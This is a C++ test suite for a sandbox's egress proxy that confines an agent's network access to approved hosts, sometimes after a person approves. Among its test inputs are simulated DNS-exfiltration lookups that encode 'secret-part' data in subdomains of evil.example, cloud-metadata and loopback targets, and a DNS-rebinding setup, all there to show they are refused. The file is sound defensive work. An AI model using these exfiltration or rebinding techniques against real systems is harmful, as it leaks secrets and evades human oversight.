// The whole path, from a connect inside to a server outside, with the real workers (world_test.h).
#include <gtest/gtest.h>
#include <sys/socket.h>
#include <unistd.h>

#include <thread>

#include "egress/name_table.h"
#include "egress/world_test.h"

namespace stockade::egress::world {
namespace {

using event::Decision;
using policy::Protocol;

void greet_and_echo(int socket) {
  send_all(socket, "hello from upstream\n");
  char buffer[65536];
  ssize_t count;
  while ((count = ::recv(socket, buffer, sizeof(buffer), 0)) > 0) {
    __atomic_add_fetch(&counters().bytes_received, count, __ATOMIC_SEQ_CST);
    if (!send_all(socket, std::string_view(buffer, static_cast<size_t>(count)))) break;
  }
}

void only_echo(int socket) {
  char buffer[65536];
  ssize_t count;
  while ((count = ::recv(socket, buffer, sizeof(buffer), 0)) > 0)
    if (!send_all(socket, std::string_view(buffer, static_cast<size_t>(count)))) break;
}

// A world with one resolver that knows these names, and an echo server at 93.184.216.34 on `ports`.
std::function<void(Servers&)> world_with(std::map<std::string, std::vector<std::string>> names,
                                         std::vector<int> ports) {
  return [names, ports](Servers& servers) {
    servers.dns("9.9.9.9:53", names);
    for (const int port : ports) servers.tcp(fmt::format("93.184.216.34:{}", port), only_echo);
  };
}

TEST(Egress, ConnectsByNameAndPassesBytesBothWays) {
  Script script;
  script.policy = policy_of({allow("db.example", 5432, Protocol::tcp)});
  script.servers = [](Servers& servers) {
    servers.dns("9.9.9.9:53", {{"db.example", {"93.184.216.34"}}});
    servers.tcp("93.184.216.34:5432", greet_and_echo);
  };
  script.agent = [] {
    const int fd = connect_to_name("db.example", 5432);
    if (fd < 0) return 1;
    if (receive_all(fd, 20) != "hello from upstream\n") return 2;
    if (!send_all(fd, "select 1")) return 3;
    if (receive_all(fd, 8) != "select 1") return 4;
    ::shutdown(fd, SHUT_WR);
    return receive_all(fd).empty() ? 0 : 5;
  };
  script.check = [](const auto& events, const Counters& seen) {
    EXPECT_EQ(count_events(events, "connect", Decision::allow, "db.example:5432"), 1);
    EXPECT_EQ(count_events(events, "name", Decision::allow, "db.example"), 1);
    EXPECT_EQ(count_events(events, "connect", Decision::deny), 0);
    EXPECT_EQ(seen.connections, 1);
    EXPECT_EQ(seen.bytes_received, 8);
  };
  play_as_both(script);
}

TEST(Egress, HoldsWhatAsksUntilAPersonHasDecidedAndResolvesNothingBefore) {
  Script script;
  script.policy = policy_of({allow("db.example", 5432, Protocol::tcp), allow("db.example", 5433, Protocol::tcp)});
  for (policy::NetworkRule& rule : script.policy.network.allow) rule.ask = true;
  script.servers = [](Servers& servers) {
    servers.dns("9.9.9.9:53", {{"db.example", {"93.184.216.34"}}});
    servers.tcp("93.184.216.34:5432", greet_and_echo);
    servers.tcp("93.184.216.34:5433", greet_and_echo);
  };
  // The agent says when it has waited: nothing but the first port is approved, and only then.
  script.person = [](const event::Event& asked, OnAnswer then) {
    EXPECT_EQ(asked.kind, "connect");
    EXPECT_EQ(asked.decision, Decision::ask);
    EXPECT_EQ(counters().dns_queries, 0);
    EXPECT_EQ(counters().connections, 0);
    const bool first = asked.subject == "db.example:5432";
    then({first, first ? "a person approved it" : "a person denied it", 77});
  };
  script.agent = [] {
    const int denied = connect_to_name("db.example", 5433);
    if (denied < 0 || !was_reset(denied, "x")) return 1;
    const int fd = connect_to_name("db.example", 5432);
    return fd >= 0 && receive_all(fd, 20) == "hello from upstream\n" ? 0 : 2;
  };
  script.check = [](const auto& events, const Counters& seen) {
    EXPECT_EQ(seen.connections, 1);
    EXPECT_EQ(count_events(events, "connect", Decision::ask), 2);
    EXPECT_EQ(count_events(events, "connect", Decision::allow, "db.example:5432"), 1);
    EXPECT_EQ(refusal_of(events, "db.example:5433"), "a person denied it");
    for (const auto& event : events) {
      if (event.decision == Decision::ask) continue;
      const std::string* approval = event.find_evidence("approval");
      EXPECT_TRUE(approval && *approval == "77") << event.kind;
    }
  };
  play_as_both(script);
}

TEST(Egress, ConnectsByTheSyntheticIpv6AddressToo) {
  Script script;
  script.policy = policy_of({allow("db.example", 5432, Protocol::tcp)});
  script.servers = [](Servers& servers) {
    servers.dns("9.9.9.9:53", {{"db.example", {"2606:4700::6810:1"}}});
    servers.tcp("[2606:4700::6810:1]:5432", only_echo);
  };
  script.agent = [] {
    const int fd = connect_to_name("db.example", 5432, true);
    if (fd < 0) return 1;
    if (!send_all(fd, "six")) return 2;
    return receive_all(fd, 3) == "six" ? 0 : 3;
  };
  play_as_both(script);
}

TEST(Egress, RefusesAddressesThatNoNameStandsFor) {
  Script script;
  script.policy = policy_of({allow("db.example", 443)});
  script.servers = world_with({}, {443});
  script.agent = [] {
    for (const char* raw :
         {"93.184.216.34:443", "[2606:4700::1]:443", "198.18.7.7:443", "10.0.0.1:22", "169.254.169.254:80"}) {
      const int fd = connect_to(raw);
      if (fd < 0) return 1;
      if (!was_reset(fd, "\x01\x02")) return 2;
      ::close(fd);
    }
    return 0;
  };
  script.check = [](const auto& events, const Counters& seen) {
    EXPECT_EQ(seen.connections, 0);
    EXPECT_EQ(seen.dns_queries, 0);
    EXPECT_EQ(count_events(events, "connect", Decision::deny), 5);
    EXPECT_EQ(refusal_of(events, "198.18.7.7:443"), "no name is bound to this address");
    EXPECT_NE(refusal_of(events, "[2606:4700::1]:443"), "");
  };
  play_as_both(script);
}

TEST(Egress, LetsAnAddressRuleThroughWithinItsRangeOnly) {
  Script script;
  script.policy = policy_of({allow("93.184.216.0/24", 22, Protocol::tcp), allow("10.1.0.0/16", 22, Protocol::tcp),
                             allow("0.0.0.0/0", 80, Protocol::tcp)});
  script.servers = [](Servers& servers) {
    servers.tcp("93.184.216.34:22", only_echo);
    servers.tcp("10.1.2.3:22", only_echo);
    servers.tcp("169.254.169.254:80", only_echo);
  };
  script.agent = [] {
    for (const char* allowed : {"93.184.216.34:22", "10.1.2.3:22"}) {
      const int fd = connect_to(allowed);
      if (fd < 0 || !send_all(fd, "x") || receive_all(fd, 1) != "x") return 1;
    }
    const int other = connect_to("10.2.2.3:22");
    if (other < 0 || !was_reset(other)) return 2;
    const int metadata = connect_to("169.254.169.254:80");
    if (metadata < 0 || !was_reset(metadata)) return 3;
    return 0;
  };
  script.check = [](const auto& events, const Counters& seen) {
    EXPECT_EQ(seen.connections, 2);
    EXPECT_NE(refusal_of(events, "169.254.169.254:80").find("metadata"), std::string::npos);
  };
  play(script);
}

TEST(Egress, RefusesEveryNameThatResolvesIntoForbiddenRanges) {
  Script script;
  const std::vector<std::string> forbidden = {"127.0.0.1",
                                              "169.254.169.254",
                                              "10.0.0.5",
                                              "0.0.0.0",
                                              "100.64.1.1",
                                              "192.168.1.1",
                                              "198.18.0.1",
                                              "224.0.0.1",
                                              "::1",
                                              "::ffff:127.0.0.1",
                                              "::ffff:169.254.169.254",
                                              "64:ff9b::7f00:1",
                                              "2002:7f00:1::",
                                              "fd00:ec2::254",
                                              "fe80::1",
                                              "::"};
  std::map<std::string, std::vector<std::string>> names;
  std::vector<policy::NetworkRule> rules;
  for (size_t i = 0; i < forbidden.size(); ++i) {
    names[fmt::format("n{}.example", i)] = {forbidden[i]};
    rules.push_back(allow(fmt::format("n{}.example", i), 443, Protocol::tcp));
  }
  script.policy = policy_of(rules);
  script.servers = world_with(names, {443});
  script.agent = [count = forbidden.size()] {
    for (size_t i = 0; i < count; ++i) {
      const int fd = connect_to_name(fmt::format("n{}.example", i), 443);
      if (fd < 0) return 1;
      if (!was_reset(fd)) return 2;
      ::close(fd);
    }
    return 0;
  };
  script.check = [count = forbidden.size()](const auto& events, const Counters& seen) {
    EXPECT_EQ(seen.connections, 0);
    for (size_t i = 0; i < count; ++i) EXPECT_NE(refusal_of(events, fmt::format("n{}.example:443", i)), "") << i;
  };
  play_as_both(script);
}

TEST(Egress, LetsANamedForbiddenAddressThroughByItsRule) {
  Script script;
  auto rule = allow("db.internal", 5432, Protocol::tcp);
  rule.addresses = {*Cidr::parse("10.0.0.0/8")};
  script.policy = policy_of({rule});
  script.servers = [](Servers& servers) {
    servers.dns("9.9.9.9:53", {{"db.internal", {"10.20.30.40"}}});
    servers.tcp("10.20.30.40:5432", only_echo);
  };
  script.agent = [] {
    const int fd = connect_to_name("db.internal", 5432);
    return fd >= 0 && send_all(fd, "x") && receive_all(fd, 1) == "x" ? 0 : 1;
  };
  play(script);
}

TEST(Egress, DialsTheAddressThatWasCheckedWhenANameRebinds) {
  Script script;
  script.policy = policy_of({allow("rebind.example", 80, Protocol::tcp)});
  script.servers = [](Servers& servers) {
    servers.dns("9.9.9.9:53", {{"rebind.example", {"93.184.216.34", "127.0.0.1"}}});
    servers.tcp("93.184.216.34:80", greet_and_echo);
    servers.tcp("127.0.0.1:80", [](int socket) { send_all(socket, "the host's own secret"); });
  };
  script.agent = [] {
    for (int i = 0; i < 3; ++i) {
      const int fd = connect_to_name("rebind.example", 80);
      if (fd < 0 || receive_all(fd, 20) != "hello from upstream\n") return 1;
      ::close(fd);
    }
    return 0;
  };
  script.check = [](const auto&, const Counters& seen) { EXPECT_EQ(seen.connections, 3); };
  play(script);
}

TEST(Egress, AsksNothingOutsideForNamesThatNoRuleAllows) {
  Script script;
  script.policy = policy_of({allow("api.example", 443)});
  script.servers = world_with({{"api.example", {"93.184.216.34"}}}, {443});
  script.agent = [] {
    for (int i = 0; i < 200; ++i) {
      if (look_up(fmt::format("c2VjcmV0LXBhcnQ{}.evil.example", i)).size() != 1) return 1;
      if (look_up(fmt::format("x{}.evil.example", i), true, i % 2 == 0).size() != 1) return 2;
    }
    if (look_up("localhost") != std::vector<std::string>{"127.0.0.1"}) return 3;
    const int fd = connect_to_name("c2VjcmV0LXBhcnQ7.evil.example", 443);
    if (fd < 0) return 4;
    send_all(fd, client_hello("c2VjcmV0LXBhcnQ7.evil.example"));
    return receive_all(fd).starts_with("\x15\x03") ? 0 : 5;  // an alert
  };
  script.check = [](const auto& events, const Counters& seen) {
    EXPECT_EQ(seen.dns_queries, 0);
    EXPECT_EQ(count_events(events, "connect", Decision::deny, "c2vjcmv0lxbhcnq7.evil.example:443"), 1);
    EXPECT_NE(events[0].where, "");
  };
  play_as_both(script);
}

TEST(Egress, RefusesNamesUnderAWildcardThatCarryData) {
  Script script;
  script.policy = policy_of({allow("*.example", 443, Protocol::tcp)});
  script.servers = world_with({{"www.example", {"93.184.216.34"}}}, {443});
  script.agent = [] {
    const int good = connect_to_name("www.example", 443);
    if (good < 0 || !send_all(good, "x") || receive_all(good, 1) != "x") return 1;
    for (const char* name : {"mfrggzdfmztwq2lknnwg23tpobyxe43uov3h.example",
                             "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.example"}) {
      const int fd = connect_to_name(name, 443);
      if (fd < 0 || !was_reset(fd)) return 2;
    }
    return 0;
  };
  script.check = [](const auto& events, const Counters& seen) {
    EXPECT_EQ(seen.dns_queries, 2);  // A and AAAA of the one good name
    EXPECT_EQ(count_events(events, "connect", Decision::deny), 2);
  };
  play(script);
}

TEST(Egress, PassesTlsOnlyUnderTheNameThatWasLookedUp) {
  Script script;
  script.policy = policy_of({allow("api.example", 443), allow("198.41.0.0/16", 443)});
  script.servers = [](Servers& servers) {
    servers.dns("9.9.9.9:53", {{"api.example", {"93.184.216.34"}}});
    servers.tcp("93.184.216.34:443", only_echo);
    servers.tcp("198.41.0.4:443", only_echo);
  };
  script.agent = [] {
    const std::string good = client_hello("API.example");
    const int fd = connect_to_name("api.example", 443);
    if (fd < 0 || !send_all(fd, good) || receive_all(fd, good.size()) != good) return 1;
    // In pieces, and with more behind it.
    const int slow = connect_to_name("api.example", 443);
    for (const char byte : good)
      if (!send_all(slow, std::string_view(&byte, 1))) return 2;
    send_all(slow, "more");
    if (receive_all(slow, good.size() + 4) != good + "more") return 3;
    for (const std::string& hello :
         {client_hello("evil.example"), client_hello(""), client_hello("api.example", true)}) {
      const int bad = connect_to_name("api.example", 443);
      if (bad < 0 || !send_all(bad, hello)) return 4;
      if (!receive_all(bad).starts_with("\x15\x03")) return 5;
    }
    const int by_address = connect_to("198.41.0.4:443");
    const std::string nameless = client_hello("");
    if (by_address < 0 || !send_all(by_address, nameless) || receive_all(by_address, nameless.size()) != nameless)
      return 6;
    const int bad = connect_to_name("api.example", 443);
    if (bad < 0 || !was_reset(bad, "SSH-2.0-OpenSSH_9\r\n")) return 7;
    return 0;
  };
  script.check = [](const auto& events, const Counters& seen) {
    EXPECT_EQ(seen.connections, 3);
    std::string reasons;
    for (const auto& event : events)
      if (event.decision == Decision::deny) reasons += event.reason + "\n";
    EXPECT_EQ(reasons,
              "the TLS server name is evil.example, not api.example\nthe TLS client names no server (SNI)\n"
              "the TLS client hides its server name (ECH)\nneither TLS nor HTTP is spoken here\n");
  };
  play_as_both(script);
}

TEST(Egress, AnswersUdpWithPortUnreachableAndAnEvent) {
  Script script;
  script.policy = policy_of({allow("api.example", 443)});
  script.agent = [] {
    for (const char* destination : {"93.184.216.34:443", "[2606:4700::1]:443"}) {
      const auto to = Endpoint::parse(destination);
      const int fd = ::socket(to->address.is_v4() ? AF_INET : AF_INET6, SOCK_DGRAM, 0);
      const timeval deadline{5, 0};
      ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &deadline, sizeof(deadline));
      sockaddr_storage address;
      const socklen_t size = to->to_sockaddr(address);
      if (::connect(fd, reinterpret_cast<sockaddr*>(&address), size) < 0 || ::send(fd, "quic", 4, 0) != 4) return 1;
      char byte;
      if (::recv(fd, &byte, 1, 0) >= 0 || errno != ECONNREFUSED) {
        ::perror(destination);
        return 2;
      }
    }
    return 0;
  };
  script.check = [](const auto& events, const Counters&) {
    EXPECT_EQ(count_events(events, "datagram", Decision::deny, "93.184.216.34:443"), 1);
    EXPECT_EQ(count_events(events, "datagram", Decision::deny, "[2606:4700::1]:443"), 1);
  };
  play_as_both(script);
}

TEST(Egress, KeepsLoopbackInsideAndItsOwnListenersClosed) {
  Script script;
  script.policy = policy_of({});
  script.agent = [] {
    const int own = connect_to("127.0.0.1:2");
    if (own < 0) return 1;
    if (!was_reset(own)) return 2;
    return connect_to("127.0.0.1:8080") < 0 && errno == ECONNREFUSED ? 0 : 3;
  };
  script.check = [](const auto& events, const Counters&) {
    EXPECT_EQ(refusal_of(events, "127.0.0.1:2"), "a direct connection to Stockade's own listener");
  };
  play_as_both(script);
}

TEST(Egress, MovesHundredMegabytesIntactAndHonoursHalfClose) {
  Script script;
  script.policy = policy_of({allow("bulk.example", 9000, Protocol::tcp)});
  static constexpr size_t kTotal = 100 << 20;
  script.servers = [](Servers& servers) {
    servers.dns("9.9.9.9:53", {{"bulk.example", {"93.184.216.34"}}});
    // Reads to the end first; only then does it send back what it summed up, and as much again.
    servers.tcp("93.184.216.34:9000", [](int socket) {
      std::string buffer(1 << 18, '\0');
      size_t total = 0;
      uint64_t sum = 0;
      ssize_t count;
      while ((count = ::recv(socket, buffer.data(), buffer.size(), 0)) > 0) {
        for (ssize_t i = 0; i < count; ++i) sum = sum * 31 + static_cast<unsigned char>(buffer[static_cast<size_t>(i)]);
        total += static_cast<size_t>(count);
      }
      send_all(socket, fmt::format("{:020}{:020}", total, sum));
      for (size_t sent = 0; sent < kTotal; sent += buffer.size()) {
        std::fill(buffer.begin(), buffer.end(), static_cast<char>('a' + (sent / buffer.size()) % 26));
        if (!send_all(socket, buffer)) return;
      }
    });
  };
  script.agent = [] {
    const int fd = connect_to_name("bulk.example", 9000);
    if (fd < 0) return 1;
    std::string block(1 << 18, '\0');
    uint64_t sum = 0;
    for (size_t sent = 0; sent < kTotal; sent += block.size()) {
      for (size_t i = 0; i < block.size(); i += 64) block[i] = static_cast<char>((sent >> 12) + i);
      for (const char byte : block) sum = sum * 31 + static_cast<unsigned char>(byte);
      if (!send_all(fd, block)) return 2;
    }
    ::shutdown(fd, SHUT_WR);
    if (receive_all(fd, 40) != fmt::format("{:020}{:020}", kTotal, sum)) return 3;
    size_t total = 0;
    char buffer[65536];
    ssize_t count;
    while ((count = ::recv(fd, buffer, sizeof(buffer), 0)) > 0) {
      for (ssize_t i = 0; i < count; ++i)
        if (buffer[i] != static_cast<char>('a' + ((total + static_cast<size_t>(i)) >> 18) % 26)) return 4;
      total += static_cast<size_t>(count);
    }
    return count == 0 && total == kTotal ? 0 : 5;
  };
  play_as_both(script);
}

TEST(Egress, LogsEveryOneOfManyRefusedConnects) {
  Script script;
  script.policy = policy_of({allow("api.example", 443)});
  static constexpr int kConnects = 100'000;
  script.agent = [] {
    sockaddr_storage address;
    const socklen_t size = Endpoint::parse("93.184.216.34:4444")->to_sockaddr(address);
    const linger hard{1, 0};
    int made = 0;
    for (int i = 0; i < kConnects; ++i) {
      const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
      if (::connect(fd, reinterpret_cast<sockaddr*>(&address), size) == 0) ++made;
      ::setsockopt(fd, SOL_SOCKET, SO_LINGER, &hard, sizeof(hard));
      ::close(fd);
    }
    counters().agent_connects = made;
    return made > kConnects / 2 ? 0 : 1;
  };
  script.check_total = true;
  play(script);
}

}  // namespace
}  // namespace stockade::egress::world
